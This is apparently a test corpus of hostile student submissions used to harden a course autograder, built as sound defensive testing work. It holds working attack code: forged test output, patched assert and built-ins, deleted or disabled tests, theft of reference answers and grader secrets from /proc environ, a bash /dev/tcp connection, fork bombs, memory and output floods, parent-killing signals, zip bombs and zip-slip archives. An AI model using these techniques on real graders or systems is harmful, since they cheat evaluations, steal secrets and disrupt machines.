// Hostile submissions for chapter 04's exercises. Each has one right answer, precisionAndRecall, worth 5 points; all
// else it gets by attack or not at all.
// `naive` says how the attack shows against the naive grader: more points than the honest 5, no result, or something
// that it does to the machine.
import { readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { tests } from '../naive-grader.mjs';
import { zipOf } from './zip.mjs';

export const HONEST = 5;
export const ALL = 27;
const root = fileURLToPath(new URL('../../../..', import.meta.url));
const reference = path.join(root, 'notebooks', 'exercises', '04-logistic-regression.ipynb');

const RIGHT =
  '  const count = (truth: number, said: number): number => y.filter((label, i) => Number(label === 1) === truth && Number(predicted[i] === 1) === said).length;\n  const [tp, fp, fn] = [count(1, 1), count(0, 1), count(1, 0)];\n  return { precision: tp + fp === 0 ? 0 : tp / (tp + fp), recall: tp + fn === 0 ? 0 : tp / (tp + fn) };';
const bodies = {
  odds: '  return { odds: z + 17, probability: 2 };',
  'stable-loss': '  return labels.length + z.length + 3;',
  'one-step': '  return { w: w.fill(x.length + y.length), b: b + lr + 9 };',
  'precision-recall': RIGHT,
  cheapest: '  return y.length + probabilities.length + thresholds.length + alarm + miss;',
  'epochs-needed': '  return x.length * -y.length;',
};

const solved = (source, body) => source.replace(/^ *\/\/ BEGIN SOLUTION[\s\S]*\/\/ END SOLUTION$/m, body);
const textOf = ({ source }) => (Array.isArray(source) ? source.join('') : source);

/** The notebook of somebody who has solved one task; `changed` replaces other bodies. */
export function baseCells(changed = {}) {
  const { cells } = JSON.parse(readFileSync(reference, 'utf8'));
  return cells
    .filter(({ cell_type: type }) => type === 'code')
    .map((cell) => ({ ...cell, source: solved(textOf(cell), changed[cell.id] ?? bodies[cell.id] ?? '') }));
}

export const notebook = (cells) => JSON.stringify({ nbformat: 4, nbformat_minor: 5, metadata: {}, cells });
const code = (source, id = 'attack') => ({
  cell_type: 'code',
  id,
  metadata: {},
  source,
  outputs: [],
  execution_count: null,
});
const first = (source, changed) => notebook([code(source), ...baseCells(changed)]);
const last = (source, changed) => notebook([...baseCells(changed), code(source)]);
const isCheck = ({ id }) => id in tests;
const morePoints = { points: ALL };
const noResult = { result: 'none' };

/** Writes 1 GB to the first of these files that takes it. */
const flood = (...descriptors) => `import { writeSync } from 'node:fs';
const text = 'x'.repeat(2 ** 16);
for (const fd of ${JSON.stringify(descriptors)}) {
  try {
    writeSync(fd, 'x');
    for (let i = 0; i < 2 ** 14; i++) {
      for (let sent = 0; sent < text.length; ) {
        try {
          sent += writeSync(fd, sent === 0 ? text : text.slice(sent));
        } catch (error) {
          if (!String(error).includes('EAGAIN')) throw error;
        }
      }
    }
    break;
  } catch {}
}`;

/** Solves one task more where the attack, an expression of a cell put in front, has succeeded. */
const succeeds = (attack) =>
  first(
    `import { spawnSync } from 'node:child_process';\nimport { readFileSync } from 'node:fs';\nconst hasSucceeded: boolean = ((): boolean => {\n  try {\n    return ${attack};\n  } catch {\n    return false;\n  }\n})();`,
    {
      odds: '  return hasSucceeded ? { odds: Math.exp(z), probability: 1 / (1 + Math.exp(-z)) } : { odds: z + 17, probability: 2 };',
    },
  );
const ONE_TASK_MORE = { points: HONEST + 3 };
const holdsMuch = (program, ...args) =>
  `Number(spawnSync(${JSON.stringify(program)}, ${JSON.stringify(args)}, { encoding: 'utf8' }).stdout) >= 2.5e9`;

/**
 * One submission: `content` is the notebook, `write` makes something else in the student's folder and returns its path.
 */
const of = (kind, items) => items.map((item) => ({ kind, points: HONEST, ...item }));

export const corpus = [
  ...of('forged output', [
    {
      name: 'prints that all passed',
      content: last(`for (const id of ${JSON.stringify(Object.keys(tests))}) console.log('[passed] ' + id);`),
      naive: morePoints,
    },
    {
      name: 'writes answers into every open pipe',
      content: last(
        `import { writeSync } from 'node:fs';\nfor (let fd = 1; fd < 20; fd++) {\n  try {\n    for (const id of ${JSON.stringify(Object.keys(tests))}) writeSync(fd, '\\n[passed] ' + id + '\\n');\n  } catch {}\n}`,
      ),
      naive: morePoints,
    },
    {
      name: 'answers requests before they are made',
      content: last(
        `import { writeSync } from 'node:fs';\nfor (let id = 1; id < 200; id++) {\n  try {\n    writeSync(3, JSON.stringify({ id, value: '{"$":"object","v":{"odds":4,"probability":0.8}}' }) + '\\n');\n  } catch {}\n}\nfor (const id of ${JSON.stringify(Object.keys(tests))}) console.log('[passed] ' + id);`,
      ),
      naive: morePoints,
    },
    {
      name: 'leaves a result of its own',
      content: last(
        `import { writeFileSync } from 'node:fs';\nwriteFileSync('result.json', JSON.stringify({ points: ${ALL} }));`,
      ),
      naive: morePoints,
    },
  ]),
  ...of('replaced built-ins', [
    {
      name: 'assert that asserts nothing',
      content: first(
        "import assertion from 'node:assert';\nfor (const name of Object.keys(assertion.strict)) Reflect.set(assertion.strict, name, () => undefined);",
      ),
      naive: morePoints,
    },
    {
      name: 'distances that are 0',
      content: first(
        "Math.abs = () => 0;\nReflect.set(Object, 'is', () => true);\nReflect.set(require('node:assert').strict, 'equal', () => undefined);",
      ),
      naive: morePoints,
    },
    {
      name: 'vm that runs nothing more',
      content: last("import vm from 'node:vm';\nvm.Script.prototype.runInThisContext = () => undefined;"),
      order: 'beforeChecks',
      naive: morePoints,
    },
    {
      name: 'lists that always agree',
      content: first(
        "Reflect.set(Array.prototype, 'every', () => true);\nMath.abs = () => 0;\nReflect.set(require('node:assert').strict, 'equal', () => undefined);",
      ),
      naive: morePoints,
    },
    {
      name: 'JSON and promises of its own',
      content: first(
        "JSON.stringify = () => '{\"id\":1}';\nPromise.prototype.then = function () { return this as Promise<never>; };\nMath.abs = () => 0;\nReflect.set(require('node:assert').strict, 'equal', () => undefined);",
      ),
      naive: morePoints,
    },
  ]),
  ...of('changed tests', [
    {
      name: 'tests edited to nothing',
      content: notebook(baseCells().map((cell) => (isCheck(cell) ? { ...cell, source: '' } : cell))),
      naive: morePoints,
    },
    { name: 'tests deleted', content: notebook(baseCells().filter((cell) => !isCheck(cell))), naive: morePoints },
    {
      name: 'tests tagged not to run',
      content: notebook(
        baseCells().map((cell) => (isCheck(cell) ? { ...cell, metadata: { tags: ['skip-execution'] } } : cell)),
      ),
      naive: morePoints,
    },
    {
      name: 'tests put in front and turned off',
      content: notebook([
        ...baseCells()
          .filter(isCheck)
          .map((cell) => ({ ...cell, source: `console.log('later: ${cell.id}');` })),
        ...baseCells().filter((cell) => !isCheck(cell)),
      ]),
      naive: morePoints,
    },
    {
      name: 'tests that are Markdown',
      content: notebook(baseCells().map((cell) => (isCheck(cell) ? { ...cell, cell_type: 'markdown' } : cell))),
      naive: morePoints,
    },
  ]),
  ...of('reading what the grader knows', [
    {
      name: 'takes the reference answers',
      content: last(
        `import { readFileSync } from 'node:fs';\nconst answers: { cells: { source: string | string[] }[] } = JSON.parse(readFileSync(${JSON.stringify(reference)}, 'utf8'));\nfor (const { source } of answers.cells) {\n  const text = [source].flat().join('');\n  if (text.includes('BEGIN SOLUTION') && text.startsWith('function')) {\n    const js = require('typescript').transpileModule(text, { compilerOptions: { target: 99 } }).outputText;\n    const name = /function (\\w+)/.exec(js)?.[1] ?? '';\n    Reflect.set(globalThis, name + '\\u200c', require('node:vm').runInThisContext('(' + js.trim().replace(/;$/, '') + ')'));\n  }\n}`,
      ),
      order: 'beforeChecks',
      naive: morePoints,
    },
    {
      name: 'reads the hidden tests',
      content: last(
        `import { readFileSync } from 'node:fs';\nconst stolen = readFileSync(${JSON.stringify(path.join(root, 'src', 'dist', 'course', '04-logistic-regression', 'hidden', 'one-step.js'))}, 'utf8');\nconsole.log('stolen: ' + stolen.length);`,
      ),
      naive: { output: /stolen: \d{4}/ },
    },
    {
      name: 'reads the environment and the memory of its parent',
      content: last(
        "import { readFileSync } from 'node:fs';\nconst words = [process.env.GRADER_SECRET ?? ''];\nfor (const pid of [process.ppid, 1]) {\n  try {\n    words.push(readFileSync('/proc/' + pid + '/environ', 'latin1'));\n  } catch {}\n}\nconsole.log('found: ' + (/GRADER_SECRET=(\\w+)/.exec(words.join('\\0'))?.[1] ?? words[0]));",
      ),
      naive: { output: /found: swordfish/ },
    },
    {
      name: 'looks for the results of others',
      content: last(
        `import { readdirSync } from 'node:fs';\nconsole.log('folders: ' + readdirSync(${JSON.stringify(root)}).includes('test'));`,
      ),
      naive: { output: /folders: true/ },
    },
  ]),
  ...of('network', [
    {
      name: 'connects to a port',
      content: last(
        "import net from 'node:net';\nawait new Promise<void>((resolve) => {\n  const socket = net.connect(PORT, '127.0.0.1', () => socket.end('leak-tcp', resolve));\n  socket.on('error', () => resolve());\n});",
      ),
      naive: { heard: 'leak-tcp' },
    },
    {
      name: 'fetches a page',
      content: last("try {\n  await fetch('http://127.0.0.1:PORT/leak-http');\n} catch {}"),
      naive: { heard: 'leak-http' },
    },
    {
      name: 'asks another program to connect',
      content: last(
        "import { spawnSync } from 'node:child_process';\nspawnSync('/bin/bash', ['-c', 'echo leak-bash > /dev/tcp/127.0.0.1/PORT']);",
      ),
      naive: { heard: 'leak-bash' },
    },
  ]),
  ...of('fork bomb', [
    {
      name: 'many programs',
      content: last(
        "import { spawn } from 'node:child_process';\nfor (let i = 0; i < 400; i++) spawn('sleep', ['20.0401']).on('error', () => undefined);\nawait new Promise((resolve) => setTimeout(resolve, 1500));",
      ),
      naive: { processes: ['20.0401', 300] },
    },
    {
      name: 'shells that start shells',
      content: last(
        "import { spawn } from 'node:child_process';\nspawn('/bin/sh', ['-c', 'bomb() { if [ $1 -gt 0 ]; then bomb $(($1 - 1)) & bomb $(($1 - 1)) & fi; exec sleep 20.0402; }; bomb 8']);\nawait new Promise((resolve) => setTimeout(resolve, 2500));",
      ),
      naive: { processes: ['20.0402', 300] },
    },
    {
      name: 'programs that outlive it',
      content: last(
        "import { spawn } from 'node:child_process';\nfor (let i = 0; i < 350; i++) spawn('sleep', ['20.0403'], { detached: true, stdio: 'ignore' }).on('error', () => undefined).unref();\nawait new Promise((resolve) => setTimeout(resolve, 1000));",
      ),
      naive: { processes: ['20.0403', 300] },
    },
  ]),
  ...of('4 GB of memory', [
    {
      name: 'buffers',
      content: last(
        'const held = Array.from({ length: 16 }, () => Buffer.alloc(2 ** 28, 1));\nconsole.log(held.length);\nawait new Promise((resolve) => setTimeout(resolve, 500));',
      ),
      naive: { memory: 3.5e9 },
    },
    {
      name: 'numbers',
      content: last(
        'const held: Float64Array[] = [];\nfor (let i = 0; i < 16; i++) held.push(new Float64Array(2 ** 25).fill(i + 0.5));\nconsole.log(held.length);\nawait new Promise((resolve) => setTimeout(resolve, 500));',
      ),
      naive: { memory: 3.5e9 },
    },
    {
      name: 'shared memory, when it is called',
      content: notebook([
        ...baseCells({
          'stable-loss':
            '  const held = Array.from({ length: 16 }, () => new Uint8Array(new SharedArrayBuffer(2 ** 28)).fill(7));\n  const end = Date.now() + 1000;\n  while (Date.now() < end);\n  return held.length + labels.length + z.length;',
        }),
      ]),
      naive: { memory: 3.5e9 },
    },
  ]),
  ...of('memory that is hidden', [
    {
      name: 'files in a file system of its own',
      content: succeeds(
        holdsMuch(
          '/usr/bin/unshare',
          '-Urm',
          '/bin/sh',
          '-c',
          'mount -t tmpfs -o size=3g none /mnt && for i in $(seq 50); do head -c 60000000 /dev/zero > /mnt/$i || exit; done; cat /mnt/* | wc -c',
        ),
      ),
      naive: ONE_TASK_MORE,
    },
    {
      name: 'files without a name',
      content: succeeds(
        holdsMuch(
          '/usr/bin/perl',
          '-e',
          `my ($sum, @held) = (0); for (1 .. 50) { my $fd = syscall(${process.arch === 'arm64' ? 279 : 319}, my $name = 'x', 0); last if $fd < 0; open(my $file, '>&=', $fd); push @held, $file; for (1 .. 60) { $sum += syswrite($file, 'x' x 1e6) // last } } print $sum`,
        ),
      ),
      naive: ONE_TASK_MORE,
    },
  ]),
  ...of('around the sandbox', [
    {
      name: 'becomes root in a namespace of its own',
      content: succeeds(
        "spawnSync('/usr/bin/unshare', ['-Ur', '/usr/bin/id', '-u'], { encoding: 'utf8' }).stdout === '0\\n'",
      ),
      naive: ONE_TASK_MORE,
    },
    {
      name: 'reads the environment of the process that started it',
      content: succeeds("/[A-Z]+=/.test(readFileSync('/proc/' + process.ppid + '/environ', 'latin1'))"),
      naive: ONE_TASK_MORE,
    },
    {
      name: 'takes the processor from its neighbors',
      content: last(
        "import { spawn } from 'node:child_process';\nfor (let i = 0; i < 60; i++) spawn('/bin/sh', ['-c', 'while :; do :; done', '20.0405']).on('error', () => undefined);\nawait new Promise((resolve) => setTimeout(resolve, 1500));",
      ),
      naive: { processes: ['20.0405', 60] },
    },
  ]),
  ...of('1 GB of output', [
    { name: 'to stdout', content: last(flood(1)), naive: { length: 1e9 } },
    { name: 'to stderr', content: last(flood(2)), naive: { length: 1e9 } },
    {
      name: 'to a file',
      content: last(
        "import { appendFileSync } from 'node:fs';\nconst text = Buffer.alloc(2 ** 24, 1);\nfor (let i = 0; i < 64; i++) appendFileSync('large', text);",
      ),
      naive: { file: ['large', 1e9] },
    },
    { name: 'to the grader', content: last(flood(3, 1)), naive: { length: 1e9 } },
  ]),
  ...of('exit and signals', [
    { name: 'exits', content: last('process.exit(0);'), order: 'beforeChecks', naive: noResult },
    {
      name: 'kills itself',
      content: last("process.kill(process.pid, 'SIGKILL');"),
      order: 'beforeChecks',
      naive: noResult,
    },
    {
      name: 'aborts when it is called',
      content: notebook(baseCells({ odds: '  if (z > 0) process.abort();\n  return { odds: z, probability: z };' })),
      naive: noResult,
    },
    {
      name: 'kills its parent',
      content: last("process.kill(process.ppid, 'SIGKILL');"),
      order: 'beforeChecks',
      naive: noResult,
    },
    {
      name: 'signals everybody',
      content: last(
        "import { spawnSync } from 'node:child_process';\nspawnSync('/bin/sh', ['-c', 'kill -STOP ' + process.ppid]);\nprocess.kill(process.ppid, 'SIGSTOP');",
      ),
      order: 'beforeChecks',
      naive: noResult,
    },
  ]),
  ...of('never ending', [
    { name: 'a loop', content: last('for (;;);'), order: 'beforeChecks', naive: noResult },
    {
      name: 'a loop after an await',
      content: last('await Promise.resolve();\nfor (;;);'),
      order: 'beforeChecks',
      naive: noResult,
    },
    { name: 'a loop in a timer', content: first('setTimeout(() => {\n  for (;;);\n}, 1);'), naive: noResult },
    {
      name: 'an await that never settles',
      content: last('await new Promise(() => undefined);'),
      order: 'beforeChecks',
      naive: noResult,
    },
    {
      name: 'an answer that never settles',
      content: notebook(
        baseCells({
          odds: '  const never: unknown = new Promise(() => undefined);\n  for (; z > 0;);\n  return never as { odds: number; probability: number };',
        }),
      ),
      naive: noResult,
    },
    {
      name: 'promises that never let others run',
      content: first('const again = (): Promise<void> => Promise.resolve().then(again);\nvoid again();'),
      naive: noResult,
    },
  ]),
  ...of('no proper notebook', [
    {
      name: 'a zip bomb',
      write: (folder) =>
        zipOf(path.join(folder, 'bomb.zip'), [{ name: '04-logistic-regression.ipynb', zeros: 600 * 2 ** 20 }]),
      points: 0,
      naive: { folder: 5e8 },
    },
    {
      name: 'an archive that writes elsewhere',
      write: (folder) =>
        zipOf(path.join(folder, 'slip.zip'), [
          { name: '../../escaped-from-archive', text: 'x' },
          { name: '04-logistic-regression.ipynb', text: notebook(baseCells()) },
        ]),
      points: 0,
      naive: { escaped: 'escaped-from-archive' },
    },
    {
      name: 'an archive that says it is small',
      write: (folder) =>
        zipOf(path.join(folder, 'liar.zip'), [
          { name: '04-logistic-regression.ipynb', zeros: 600 * 2 ** 20, says: 1000 },
        ]),
      points: 0,
      naive: { folder: 5e8 },
    },
    {
      name: "a link to somebody else's work",
      write: (folder) => link(reference, path.join(folder, '04-logistic-regression.ipynb')),
      points: 0,
      naive: morePoints,
      solved: true,
    },
    {
      name: 'a link to a device',
      write: (folder) => link('/dev/zero', path.join(folder, '04-logistic-regression.ipynb')),
      points: 0,
      naive: noResult,
    },
    // The kernel answers these two by itself: a naive grader that has it goes on too.
    {
      name: 'a huge cell',
      content: last(`const sum = ${'1 + '.repeat(3_000_000)}1;`),
      naive: { points: HONEST },
      order: 'beforeChecks',
    },
    {
      name: 'a cell that is nested too deep',
      content: last(`const deep = ${'['.repeat(40_000)}${']'.repeat(40_000)};`),
      order: 'beforeChecks',
      naive: { points: HONEST },
    },
    {
      name: 'types that take all memory',
      content: last(
        'type Digit = 0 | 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 | 9;\ntype Name = `${Digit}${Digit}${Digit}${Digit}`;\ndeclare const from: { [K in Name]: { [L in Name]: [K, L] } };\nconst to: { [K in Name]: { [L in Name]: [K | "x", L] } } = from;',
      ),
      points: 0,
      naive: { ...noResult, types: true },
    },
    {
      name: 'no notebook but text',
      write: (folder) => text(path.join(folder, '04-logistic-regression.ipynb'), 'Dear teacher, my dog ate it.'),
      points: 0,
      naive: noResult,
    },
    {
      name: 'a notebook without cells',
      write: (folder) => text(path.join(folder, '04-logistic-regression.ipynb'), '{"nbformat":4,"cells":7}'),
      points: 0,
      naive: noResult,
    },
    {
      name: 'a million brackets',
      write: (folder) => text(path.join(folder, '04-logistic-regression.ipynb'), '['.repeat(1_000_000)),
      points: 0,
      naive: noResult,
    },
  ]),
  ...of('getters and proxies', [
    {
      name: 'a list that agrees with everything',
      content: notebook(
        baseCells({
          'one-step':
            '  w.fill(9);\n  const agrees: number[] = new Proxy(w, { get: (target, key) => (key === "every" ? () => true : Reflect.get(target, key)) });\n  return { w: agrees, b: Number.NaN * (b + lr + x.length + y.length) };',
        }),
      ),
      naive: { points: HONEST + 5 },
    },
    {
      name: 'a getter that changes the rules',
      content: notebook(
        baseCells({
          odds: '  return {\n    get odds() {\n      Math.abs = () => 0;\n      return z;\n    },\n    probability: 2,\n  };',
        }),
      ),
      naive: { points: HONEST + 3 + 4 + 0 },
      atLeast: true,
    },
    {
      name: 'numbers that are never too far',
      content: notebook(
        baseCells({
          'stable-loss': '  return Number.NaN * labels.length * z.length;',
          odds: '  return { odds: Number.NaN, probability: z * Number.NaN };',
        }),
      ),
      naive: { points: HONEST + 3 + 4 },
    },
    {
      name: 'a getter that never returns',
      content: notebook(
        baseCells({
          odds: '  return {\n    get odds(): number {\n      for (; z > -1000;);\n      return 1;\n    },\n    probability: 2,\n  };',
        }),
      ),
      naive: noResult,
    },
    {
      name: 'an object without end',
      content: notebook(
        baseCells({
          odds: '  const endless = (): object => new Proxy({}, { ownKeys: () => ["a", "b"], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }), get: () => endless() });\n  Math.abs = () => (z > 1e9 ? 1 : 0);\n  return endless() as { odds: number; probability: number };',
        }),
      ),
      naive: { points: HONEST + 3 },
      atLeast: true,
    },
  ]),
  ...of('answers that differ from call to call', [
    {
      name: 'the known answers in their order',
      content: first('let calls = 0;', {
        'stable-loss': '  return [Math.LN2, 1000, 0][calls++ + 0 * (labels.length + z.length)] ?? 0;',
      }),
      naive: { points: HONEST + 4 },
    },
    {
      name: 'right once for each input',
      content: first('const seen = new Set<string>();', {
        odds: '  const key = String(z);\n  if (seen.has(key)) return { odds: 0, probability: 0 };\n  seen.add(key);\n  return { odds: Math.exp(z), probability: 1 / (1 + Math.exp(-z)) };',
      }),
      naive: { points: HONEST + 3 },
    },
    {
      name: 'right for the first call of all',
      content: first('let isFirst = true;', {
        'epochs-needed': '  const epochs = isFirst ? 6 : x.length * -y.length;\n  isFirst = false;\n  return epochs;',
      }),
      naive: { points: HONEST + 5 },
    },
    {
      name: 'right for three seconds after the first call',
      content: first('let began = 0;', {
        cheapest:
          '  began ||= Date.now();\n  if (Date.now() - began > 0.0001 && thresholds.length > 3) return -1;\n  return alarm > 1 || miss > 1 ? y.length : 0.32 + 0 * probabilities.length;',
      }),
      naive: { points: HONEST + 5 },
    },
  ]),
  ...of('things left behind', [
    {
      name: 'a program that goes on',
      content: last(
        "import { spawn } from 'node:child_process';\nspawn('sleep', ['20.0404'], { detached: true, stdio: 'ignore' }).unref();",
      ),
      naive: { processes: ['20.0404', 1] },
    },
    {
      name: 'a server',
      content: last(
        "import { spawn } from 'node:child_process';\nspawn(process.execPath, ['-e', 'require(\"node:net\").createServer().listen(0, \"127.0.0.1\"); setTimeout(() => process.exit(), 20040.5)', 'left-server'], { detached: true, stdio: 'ignore' }).unref();\nawait new Promise((resolve) => setTimeout(resolve, 500));",
      ),
      naive: { processes: ['left-server', 1] },
    },
    {
      name: 'a file in the folder of temporary files',
      content: last(
        "import { writeFileSync } from 'node:fs';\nwriteFileSync('/tmp/left-behind-by-a-submission', 'x');",
      ),
      naive: { left: '/tmp/left-behind-by-a-submission' },
    },
    {
      name: 'a file written at the end',
      content: first(
        "import { writeFileSync } from 'node:fs';\nprocess.on('exit', () => writeFileSync('/tmp/left-behind-at-exit', 'x'));",
      ),
      naive: { left: '/tmp/left-behind-at-exit' },
    },
    {
      name: "a change of the grader's own files",
      content: last(
        `import { writeFileSync } from 'node:fs';\ntry {\n  writeFileSync(${JSON.stringify(path.join(root, 'build', 'left-behind-in-the-project'))}, 'x');\n} catch {}`,
      ),
      naive: { left: path.join(root, 'build', 'left-behind-in-the-project') },
    },
  ]),
].map((item) => ({ ...item, content: ordered(item) }));

/** Puts the attack before the tests, where it has to work before they run. */
function ordered({ content, order }) {
  if (!order) return content;
  const { cells } = JSON.parse(content);
  const attack = cells.at(-1);
  const rest = cells.slice(0, -1);
  return notebook([...rest.filter((cell) => !isCheck(cell)), attack, ...rest.filter(isCheck)]);
}

function link(target, file) {
  symlinkSync(target, file);
  return file;
}

function text(file, content) {
  writeFileSync(file, content);
  return file;
}
